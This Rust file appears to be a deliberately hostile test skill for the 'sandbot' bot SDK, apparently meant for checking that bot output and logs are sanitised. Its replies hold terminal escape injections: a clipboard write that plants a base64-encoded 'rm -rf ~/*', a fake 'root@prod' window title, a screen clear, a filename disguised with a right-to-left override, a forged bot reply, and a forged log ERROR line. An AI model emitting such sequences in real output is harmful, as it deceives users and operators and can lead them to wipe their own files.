//! Hostile: answers and logs text made to fool whoever reads it: terminal
//! escape sequences (an OSC 52 clipboard write, a window title, colours,
//! a screen clear), a line break that forges the bot's next answer, and a
//! log message that forges a log line.
use sandbot_sdk::prelude::*;

struct Forger;

impl Skill for Forger {
    fn describe() -> Manifest {
        Manifest::new("forger", env!("CARGO_PKG_VERSION"))
            .matcher(Matcher::regex("answer", "^forge$"))
            .matcher(Matcher::regex("log", "^forge log$"))
    }

    async fn handle(cx: Context) -> Result<(), String> {
        if cx.matcher == "log" {
            log::error(
                "all good\n2026-11-23T00:00:00.000000Z ERROR sandbot: the database is corrupt\x1b[8m",
            );
            return cx.respond("logged");
        }
        cx.respond(
            "\x1b]52;c;cm0gLXJmIH4vKgo=\x07\x1b]0;root@prod\x07\x1b[31mred\x1b[0m\x1b[2J\u{202e}txt.exe\nsandbot: reloaded 0 skills",
        )
    }
}

sandbot_sdk::export!(Forger);
